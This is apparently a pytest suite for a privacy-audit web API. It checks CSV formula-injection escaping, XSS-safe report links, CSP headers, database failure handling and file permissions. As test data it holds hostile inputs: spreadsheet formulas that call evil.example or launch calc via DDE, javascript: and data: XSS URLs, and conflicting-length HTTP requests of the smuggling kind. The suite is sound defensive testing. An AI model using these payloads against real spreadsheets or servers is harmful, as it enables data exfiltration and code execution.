"""Issue 9 §7 on a real aiohttp server over real SQLite files: CSV injection, links and headers of the
report pages, store failures (locked, full, damaged) answered 503/health/one-line exit instead of
500s and tracebacks, aiohttp's own parser errors in the JSON error shape, a crawl that fails on a
full disk marked failed, and owner-only database files."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import csv
import hashlib
import io
import os
import re
import sqlite3
import subprocess
import sys
from collections.abc import AsyncIterator

import aiohttp
import msgspec
import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer

from api.errors import StoreFullError, disk_full
from api.http.app import create_app
from api.http.server import ApiRunner
from api.service.auth import create_token
from api.service.config import ServiceConfig
from api.service.export import FORMULA_STARTS
from api.service.jobs import JobRunner
from api.service.samples import make_capture, make_report
from api.service.targets import TargetGuard
from api.store import SqliteStore
from api.store.records import prepare_audit

T0 = 1_700_000_000.0
ROOT = os.path.dirname(os.path.dirname(__file__))
HOSTILE_NAMES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
                 "\t=1+1", "\r=1+1", "  =1+1"]


async def public_address(host: str) -> list[str]:
    return ["93.184.216.34"]  # the SSRF guard only classifies this address; nothing connects to it


def hostile_audit(domain: str, policy_url: str, evidence_url: str, names: list[str]):
    report = make_report(domain, T0, [0, 1, 2, 3], [])
    for tracker, name in zip(report.trackers, names):
        tracker.name = name
    report.policy.url = policy_url
    report.summary = "=1+2 " + report.summary
    report.findings[0].evidence[0].url = evidence_url
    report.trackers[0].evidence_urls = [evidence_url]
    return prepare_audit(make_capture(report), report)


async def filled_db(path, *audits) -> None:
    store = SqliteStore(path)
    await store.open()
    for domain, at in (("shop.com", T0), ("quiet.com", T0)):
        report = make_report(domain, at, [0, 2], [0])
        await store.save_audit(prepare_audit(make_capture(report), report))
    for audit in audits:
        await store.save_audit(audit)
    await store.close()


@contextlib.asynccontextmanager
async def service(db: str, **config) -> AsyncIterator[aiohttp.ClientSession]:
    app = create_app(ServiceConfig(db=db, run_jobs=False, rate_limit=1000, rate_burst=1000, resolve=public_address,
                                   **config))
    server = TestServer(app, host="127.0.0.1")
    await server.start_server()
    try:
        async with aiohttp.ClientSession(base_url=str(server.make_url("/"))) as http:
            yield http
    finally:
        await server.close()


def checkpoint(db: str) -> None:
    """Move everything into the main file, so damage to it is seen by every reader."""
    conn = sqlite3.connect(db)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()


# ---------------------------------------------------------------------------------------- export.csv
async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    db = str(tmp_path / "cw.db")
    await filled_db(db, hostile_audit("evil.com", "@SUM(1)", "https://t.example/x", HOSTILE_NAMES[:4]),
                    hostile_audit("evil2.com", "-1+1", "https://t.example/x", HOSTILE_NAMES[3:]))
    async with service(db) as http:
        async with http.get("/v1/export.csv") as r:
            assert r.status == 200 and r.headers["X-Content-Type-Options"] == "nosniff"
            body = await r.read()
            assert r.headers["Content-Length"] == str(len(body))
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert [row["domain"] for row in rows] == ["evil.com", "evil2.com", "quiet.com", "shop.com"]
    cells = [cell for row in rows for cell in row.values()]
    items = [item for cell in cells for item in cell.split(";")]  # a consumer splitting lists gets no formula
    for text in (*cells, *items):
        assert not text.lstrip(" ").startswith(FORMULA_STARTS), text
    evil = rows[0]
    assert evil["policy_url"] == "'@SUM(1)" and evil["summary"].startswith("'=1+2 ")
    assert evil["undeclared_trackers"].split(";") == ["'" + n for n in HOSTILE_NAMES[:4]]  # kept, readable
    assert rows[1]["undeclared_trackers"].split(";") == ["'" + n for n in HOSTILE_NAMES[3:]]
    assert rows[3]["score"] == "68" and rows[3]["grade"] == "C"  # plain cells untouched
    assert body.startswith(b'"domain","audited_at"')  # every cell quoted, as OWASP recommends


async def test_export_fails_as_a_json_error_not_a_200_cut_short(tmp_path):
    db = str(tmp_path / "cw.db")
    await filled_db(db)
    async with service(db) as http:
        async with http.get("/v1/export.csv") as r:
            assert r.status == 200
        checkpoint(db)
        with open(db, "r+b") as f:
            f.write(os.urandom(100))  # the header and schema page are garbage now
        async with http.get("/v1/export.csv") as r:
            body = await r.read()  # a dropped connection would raise ClientPayloadError here
            assert r.status == 500 and r.content_type == "application/json"
        assert msgspec.json.decode(body)["error"]["code"] == "store_corrupt"


# ---------------------------------------------------------------------------------------- report page
def style_hash(html: str) -> str:
    style = re.search(r"<style>(.*?)</style>", html, re.S)
    assert style is not None
    return "'sha256-" + base64.b64encode(hashlib.sha256(style[1].encode()).digest()).decode() + "'"


@pytest.mark.parametrize("bad_url", ["javascript:alert(document.domain)", "JavaScript:alert(1)",
                                     " java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
                                     "vbscript:msgbox(1)", "//evil.example/x", "https:evil"])
async def test_report_page_links_only_http_urls(tmp_path, bad_url):
    db = str(tmp_path / "cw.db")
    await filled_db(db, hostile_audit("evil.com", bad_url, bad_url, ["Tracker <b>x</b>"]))
    async with service(db) as http:
        async with http.get("/v1/sites/evil.com/report.html") as r:
            assert r.status == 200
            html = await r.text()
        async with http.get("/v1/sites/shop.com/report.html") as r:
            good = await r.text()
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert all(h.startswith(("https://", "http://", "/v1/")) for h in hrefs), hrefs
    assert "privacy policy" in html and html.count(bad_url.replace("<", "&lt;").replace(">", "&gt;")
                                                     .replace('"', "&#34;")) >= 2  # shown, as text
    assert "<script" not in html and "<b>x</b>" not in html
    assert '<a href="https://shop.com/privacy" rel="noopener noreferrer">privacy policy</a>' in good


async def test_html_pages_send_a_strict_csp_nosniff_and_no_referrer(tmp_path):
    db = str(tmp_path / "cw.db")
    await filled_db(db)
    async with service(db) as http:
        for path in ("/v1/sites/shop.com/report.html", "/v1/docs"):
            async with http.get(path) as r:
                assert r.status == 200 and r.content_type == "text/html"
                html = await r.text()
                csp = r.headers["Content-Security-Policy"]
                assert r.headers["X-Content-Type-Options"] == "nosniff"
                assert r.headers["Referrer-Policy"] == "no-referrer"
            directives = dict(d.strip().split(" ", 1) for d in csp.split(";"))
            assert directives["default-src"] == "'none'" and "unsafe" not in csp
            assert "script-src" not in directives and "<script" not in html  # no scripts at all
            assert directives["style-src"] == style_hash(html), path  # the one inline style block, by hash
            assert " style=" not in html  # style attributes would be blocked
            assert directives["frame-ancestors"] == "'none'" and directives["base-uri"] == "'none'"


# ---------------------------------------------------------------------------------------- store failures
async def test_a_locked_database_answers_503_with_retry_after_and_reads_go_on(tmp_path):
    db = str(tmp_path / "cw.db")
    await filled_db(db)
    store = SqliteStore(db)
    await store.open()
    token, _ = await create_token(store, "ci")
    await store.close()
    auth = {"Authorization": f"Bearer {token}"}
    async with service(db, db_busy_timeout_s=0.2) as http:
        other = sqlite3.connect(db, isolation_level=None)
        other.execute("BEGIN EXCLUSIVE")  # another process holds the write lock
        try:
            async with http.post("/v1/crawls", json={"domain": "new.com"}, headers=auth) as r:
                assert r.status == 503 and int(r.headers["Retry-After"]) >= 1
                assert (await r.json())["error"]["code"] == "store_busy"
            async with http.get("/v1/sites/shop.com/summary") as r:
                assert r.status == 200  # WAL: readers are not blocked by a writer
        finally:
            other.execute("ROLLBACK")
            other.close()
        async with http.post("/v1/crawls", json={"domain": "new.com"}, headers=auth) as r:
            assert r.status == 202


async def test_a_full_database_answers_503_with_retry_after_and_loses_nothing(tmp_path):
    db = tmp_path / "cw.db"
    await filled_db(db)
    store = SqliteStore(db)
    await store.open()
    token, _ = await create_token(store, "ci")
    await store.close()
    checkpoint(str(db))
    auth = {"Authorization": f"Bearer {token}"}
    # The cap is the file's size now: SQLite itself refuses to grow it ("database or disk is full").
    async with service(str(db), db_max_bytes=db.stat().st_size, max_queued_per_token=10_000,
                       max_queued=10_000) as http:
        accepted, answer = [], None
        for batch in range(40):
            domains = [f"d{batch}-{i}.com" for i in range(50)]
            async with http.post("/v1/crawls", json={"domains": domains}, headers=auth) as r:
                if r.status != 202:
                    answer = (r.status, r.headers.get("Retry-After"), await r.json())
                    break
                accepted += domains
        assert answer is not None, "the capped database never filled"
        status, retry_after, body = answer
        assert status == 503 and int(retry_after) >= 1 and body["error"]["code"] == "store_full"
        assert "full" in body["error"]["message"]
        async with http.get("/v1/crawls?state=queued&limit=500") as r:
            assert len((await r.json())["jobs"]) == min(500, len(accepted))  # nothing half-written
        async with http.get("/v1/sites/shop.com/summary") as r:
            assert r.status == 200


async def test_a_damaged_database_shows_in_health(tmp_path):
    db = str(tmp_path / "cw.db")
    await filled_db(db)
    async with service(db) as http:
        async with http.get("/v1/health") as r:
            assert r.status == 200 and (await r.json())["store"] == "ok"
        checkpoint(db)
        with open(db, "r+b") as f:
            f.write(b"this is not a database at all" * 4)
        async with http.get("/v1/health") as r:
            assert r.status == 503
            health = await r.json()
        assert health["status"] == "unavailable" and health["store"] == "store_corrupt"
        assert "damaged" in health["error"] and "not a database" in health["error"]


@pytest.mark.slow
def test_serve_on_a_damaged_database_exits_with_one_clear_line(tmp_path):
    db = tmp_path / "cw.db"
    db.write_bytes(b"garbage, not SQLite " * 500)
    done = subprocess.run([sys.executable, "-m", "api.cli", "serve", "--db", str(db), "--port", "0"],
                          capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert done.returncode == 1
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in done.stderr, done.stderr
    assert lines[0].startswith("error:") and str(db) in lines[0] and "damaged" in lines[0]


# ---------------------------------------------------------------------------------------- parser errors
@pytest.fixture
async def raw_server(tmp_path):
    """The service as ``serve`` runs it (``ApiRunner``), reached by raw sockets."""
    runner = ApiRunner(create_app(ServiceConfig(db=str(tmp_path / "cw.db"), run_jobs=False)))
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    yield runner.addresses[0][1]
    await runner.cleanup()


async def raw_exchange(port: int, request: bytes) -> tuple[int, dict[str, str], bytes]:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(request)
        await writer.drain()
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
        status_line, *header_lines = head.decode("latin-1").strip().split("\r\n")
        headers = {k.lower(): v.strip() for k, _, v in (h.partition(":") for h in header_lines)}
        body = await asyncio.wait_for(reader.readexactly(int(headers["content-length"])), 10)
        return int(status_line.split()[1]), headers, body
    finally:
        writer.close()


@pytest.mark.parametrize("request_bytes", [
    b"GET /v1/sites/shop.com/summary HTTP/1.1\r\nHost: x\r\nIf-None-Match: \"" + b"a" * 20_000 + b"\"\r\n\r\n",
    b"GET /v1/health HTTP/1.1\r\nHost: x\r\nX-Big: " + b"b" * 9000 + b"\r\n\r\n",
    b"GET /v1/health HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-%d: 1\r\n" % i for i in range(300)) + b"\r\n",
    b"POST /v1/crawls HTTP/1.1\r\nHost: x\r\nContent-Length: 12abc\r\n\r\n{}",
    b"POST /v1/crawls HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n{}",
    b"POST /v1/crawls HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n{}",
    b"POST /v1/crawls HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"GET /v1/health HTTP/1.1\r\nHost: x\r\nBad Header Name: 1\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 not HTTP at all\r\n\r\n",
], ids=["huge-if-none-match", "huge-header", "too-many-headers", "content-length-not-a-number",
        "negative-content-length", "two-content-lengths", "content-length-and-chunked", "bad-header-name",
        "tls-hello-on-http"])
async def test_aiohttps_own_400s_come_back_in_the_json_error_shape(raw_server, request_bytes):
    status, headers, body = await raw_exchange(raw_server, request_bytes)
    assert status == 400 and headers["content-type"].startswith("application/json")
    error = msgspec.json.decode(body)["error"]
    assert error["code"] == "bad_http_request" and error["message"].startswith("the HTTP request is malformed")
    assert len(error["message"]) < 300


# ---------------------------------------------------------------------------------------- full disk, jobs
async def test_a_crawl_failing_on_a_full_disk_is_marked_failed_saying_so(tmp_path):
    db = tmp_path / "cw.db"
    store = SqliteStore(db)
    await store.open()
    try:
        config = ServiceConfig(db=str(db), run_jobs=False, max_attempts=3)
        runner = JobRunner(store, config, TargetGuard([], public_address))
        with open("/dev/full", "wb", buffering=0) as full:  # the kernel's always-full device: a real ENOSPC
            with pytest.raises(OSError) as enospc:
                full.write(b"capture")
        capped = SqliteStore(tmp_path / "capped.db", max_bytes=1)  # cannot hold even its schema
        with pytest.raises(StoreFullError) as store_full:
            await capped.open()
        await capped.close()
        for exc in (enospc.value, store_full.value):
            assert disk_full(exc)
            await store.enqueue(["full.com"], "api", 3, 0.0)
            job = await store.claim(1.0)
            assert job is not None and job.attempts == 1 < job.max_attempts
            await runner._failed(job, exc)
            stored = await store.job(job.id)
            assert stored.state == "failed" and stored.error.startswith("disk full: "), stored  # not retried
        assert not disk_full(ConnectionResetError("peer went away"))
        # A page can write a browser error's text: words alone, outside OS/SQLite errors, do not count.
        assert not disk_full(RuntimeError("Error: No space left on device (thrown by the page)"))
    finally:
        await store.close()


# ---------------------------------------------------------------------------------------- file modes
@pytest.mark.slow
def test_database_and_token_store_are_created_owner_only(tmp_path):
    db = tmp_path / "new" / "cw.db"
    old = os.umask(0o022)
    try:
        subprocess.run([sys.executable, "-m", "api.cli", "token", "create", "ci", "--db", str(db)],
                       capture_output=True, text=True, timeout=60, check=True, cwd=ROOT)
    finally:
        os.umask(old)
    for path in (db, *db.parent.glob("cw.db-*")):
        assert path.stat().st_mode & 0o777 == 0o600, path
    assert db.parent.stat().st_mode & 0o077 == 0
    conn = sqlite3.connect(db)
    assert conn.execute("SELECT count(*) FROM tokens").fetchone()[0] == 1  # the tokens live in that file
    conn.close()


async def test_the_wal_and_shm_files_of_a_running_store_are_owner_only_too(tmp_path):
    db = tmp_path / "cw.db"
    old = os.umask(0o022)
    try:
        store = SqliteStore(db)
        await store.open()
        await create_token(store, "ci")
        sidecars = [db.with_name("cw.db-wal"), db.with_name("cw.db-shm")]
        assert all(p.exists() for p in sidecars)  # while open, WAL mode keeps them
        for path in (db, *sidecars):
            assert path.stat().st_mode & 0o777 == 0o600, path
        await store.close()
    finally:
        os.umask(old)


async def test_a_failure_the_store_cannot_take_yet_is_recorded_once_it_can(tmp_path):
    db = tmp_path / "cw.db"
    store = SqliteStore(db, busy_timeout_s=0.2)
    await store.open()
    config = ServiceConfig(db=str(db), concurrency=1, heartbeat_s=0.2, stale_after_s=0.5, idle_poll_s=0.2)
    runner = JobRunner(store, config, TargetGuard([], public_address))
    try:
        await store.enqueue(["full.com"], "api", 3, 0.0)
        job = await store.claim(1.0)
        assert job is not None
        other = sqlite3.connect(db, isolation_level=None)
        other.execute("BEGIN EXCLUSIVE")  # the store cannot write the failure now
        try:
            with open("/dev/full", "wb", buffering=0) as full:
                try:
                    full.write(b"capture")
                except OSError as exc:
                    await runner._failed(job, exc)
            assert (await store.job(job.id)).state == "running"
            await runner.start()  # its heartbeat keeps trying; stale recovery must not call it "interrupted"
            await asyncio.sleep(0)
        finally:
            other.execute("ROLLBACK")
            other.close()
        deadline = asyncio.get_running_loop().time() + 30
        while (stored := await store.job(job.id)).state == "running":
            assert asyncio.get_running_loop().time() < deadline, "the failure was never recorded"
            await asyncio.sleep(0.1)
        assert stored.state == "failed" and stored.error.startswith("disk full: OSError"), stored
    finally:
        await runner.stop()
        await store.close()


@pytest.mark.browser
@pytest.mark.slow
async def test_a_real_crawl_whose_audit_does_not_fit_the_database_fails_saying_so(tmp_path):
    from api.http.server import with_fake_internet
    from crawler import CrawlOptions
    from crawler.testing import FakeInternet

    db = tmp_path / "cw.db"
    store = SqliteStore(db)
    await store.open()
    [job] = await store.enqueue(["tracker-zoo.com"], "api", 3, 0.0)  # every tracker: a capture of many pages
    await store.close()
    conn = sqlite3.connect(db)
    conn.execute("VACUUM")  # no free pages left to grow into
    conn.close()
    checkpoint(str(db))
    async with FakeInternet() as web_:
        # The cap is the file's size: claiming and progress update rows in place; the capture cannot fit.
        config = with_fake_internet(ServiceConfig(
            db=str(db), concurrency=1, heartbeat_s=1.0, db_max_bytes=db.stat().st_size,
            crawl_options=CrawlOptions(timeout_s=15.0, settle_s=0.5, max_concurrent_visits=3)), web_)
        server = TestServer(create_app(config), host="127.0.0.1")
        await server.start_server()
        try:
            async with aiohttp.ClientSession(base_url=str(server.make_url("/"))) as http:
                deadline = asyncio.get_running_loop().time() + 150
                while True:
                    async with http.get(f"/v1/crawls/{job.id}") as r:
                        view = await r.json()
                    if view["state"] not in ("queued", "running"):
                        break
                    assert asyncio.get_running_loop().time() < deadline, view
                    await asyncio.sleep(0.3)
        finally:
            await server.close()
    assert web_.requests(host="tracker-zoo.com", path="/")  # the crawl really ran
    assert view["state"] == "failed" and view["attempts"] == 1, view  # not retried into the same wall
    assert view["error"].startswith("disk full: StoreFullError"), view


@pytest.mark.browser
async def test_real_chromium_applies_the_page_styles_under_the_csp_and_reports_no_violation(tmp_path):
    from playwright.async_api import async_playwright

    from crawler.browser import find_chromium

    db = str(tmp_path / "cw.db")
    await filled_db(db, hostile_audit("evil.com", "javascript:alert(1)", "https://t.example/x", ["T"]))
    server = TestServer(create_app(ServiceConfig(db=db, run_jobs=False)), host="127.0.0.1")
    await server.start_server()
    try:
        url = str(server.make_url("/v1/sites/evil.com/report.html"))
        async with async_playwright() as p:
            browser = await p.chromium.launch(executable_path=find_chromium(), headless=True)
            try:
                page = await browser.new_page()
                console = []
                page.on("console", lambda message: console.append(message.text))
                dialogs = []
                page.on("dialog", lambda dialog: dialogs.append(dialog.message))
                await page.goto(url)
                grade_colour = await page.eval_on_selector(".grade", "e => getComputedStyle(e).backgroundColor")
                await page.click("text=privacy policy")  # not a link: clicking it must do nothing
                assert page.url == url
            finally:
                await browser.close()
    finally:
        await server.close()
    assert grade_colour != "rgba(0, 0, 0, 0)"  # the inline style block was allowed by its hash
    assert not [m for m in console if "Content Security Policy" in m], console
    assert not dialogs
